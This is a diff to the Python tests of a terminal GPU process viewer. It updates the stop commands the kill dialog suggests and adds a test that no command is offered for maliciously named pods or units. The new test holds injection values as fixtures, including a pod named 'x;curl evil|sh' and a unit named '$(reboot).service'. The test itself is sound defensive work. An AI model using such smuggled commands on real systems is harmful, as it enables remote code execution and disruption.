@@ -10,7 +10,7 @@ from gputop.ui import views
 from gputop.ui.app import GpuTopApp
 from gputop.ui.process_view import matches
 from gputop.ui.screens.jobs import JobsScreen
-from gputop.ui.screens.kill import KillScreen
+from gputop.ui.screens.kill import KillScreen, owners_text
 from tests import builders as fx
 from tests.helpers.screen import terminal_rows, widgets_text
 
@@ -27,12 +27,13 @@ def test_rows_carry_their_owner_label_detail_and_stop_command() -> None:
     rows = {r.pid: r for r in views.process_rows(owned()[-1])}
     assert rows[41201].owner == "pod ml-research/llama-pretrain-0"
     assert rows[41201].owner_detail == "pod ml-research/llama-pretrain-0 container trainer"
-    assert rows[41201].stop == "kubectl delete pod -n ml-research llama-pretrain-0"
-    assert (rows[61022].owner, rows[61022].stop) == ("slurm 81234.0", "scancel 81234")
-    assert rows[61022].owner_detail == "slurm 81234.0 job llama13b-ft of alice"
+    assert rows[41201].stop == "kubectl delete pod --namespace ml-research -- llama-pretrain-0"
+    assert (rows[61022].owner, rows[61022].stop) == ("slurm 81234.0", "scancel -- 81234")
+    # the job's name is the process's claim; SLURM_JOB_USER (slurm_user) is never shown
+    assert rows[61022].owner_detail == "slurm 81234.0 job name llama13b-ft (its claim)"
     assert (rows[70533].owner, rows[70533].stop) == (
         "docker 9c0ffee19c0f",
-        "docker stop 9c0ffee19c0f",
+        "docker stop -- 9c0ffee19c0f",
     )
     assert rows[30115].owner is None and rows[30115].stop is None  # nobody: no column text
     assert matches(rows[52840], "resnet-ddp") and matches(rows[61022], "81234")
@@ -83,5 +84,32 @@ async def test_the_kill_dialog_names_the_owner_and_the_command_users_would_rathe
         assert isinstance(app.screen, KillScreen)
         shown = " ".join(widgets_text(app).split())  # a long line wraps
         assert "owned by pod ml-research/llama-pretrain-0 container trainer" in shown
-        assert "rather: kubectl delete pod -n ml-research llama-pretrain-0" in shown
+        assert "rather: kubectl delete pod --namespace ml-research -- llama-pretrain-0" in shown
         assert app.screen.query_one("#sigterm")  # beside the signals it offers
+
+
+async def test_the_kill_dialog_offers_no_command_built_from_a_hostile_name() -> None:
+    """Issue 29: a pod or unit named to become another command when pasted gets no
+    "rather: ..."; a valid one of full length is offered whole."""
+    from gputop.model import Owner
+    from gputop.sources.owners import stop_command
+
+    hostile = Owner("pod", namespace="prod", pod="x;curl evil|sh", pod_uid="1" * 8)
+    unit = Owner("service", unit="$(reboot).service")
+    long_pod = ".".join(["a" * 63] * 3) + "." + "b" * 61  # 253 characters, a valid name
+    valid = Owner("pod", namespace="n" * 63, pod=long_pod)
+    assert stop_command(hostile) is None and stop_command(unit) is None
+    owners = [("pod prod/x;curl evil|sh", stop_command(hostile)), ("svc x", stop_command(unit))]
+    owners.append(("pod long", stop_command(valid)))
+    app = GpuTopApp(snapshots=owned())
+    async with app.run_test(size=(400, 50)) as pilot:
+        await pilot.pause()
+        app.push_screen(KillScreen([], owners=owners))
+        await pilot.pause()
+        shown = " ".join(widgets_text(app).split())
+        assert "rather:" in shown and shown.count("rather:") == 1
+        assert "".join(long_pod.split(".")[:1]) in shown
+    # the dialog's text keeps the whole command (the screen wraps it, never cuts it)
+    assert f"rather: kubectl delete pod --namespace {'n' * 63} -- {long_pod}\n" in (
+        owners_text(owners).plain + "\n"
+    )
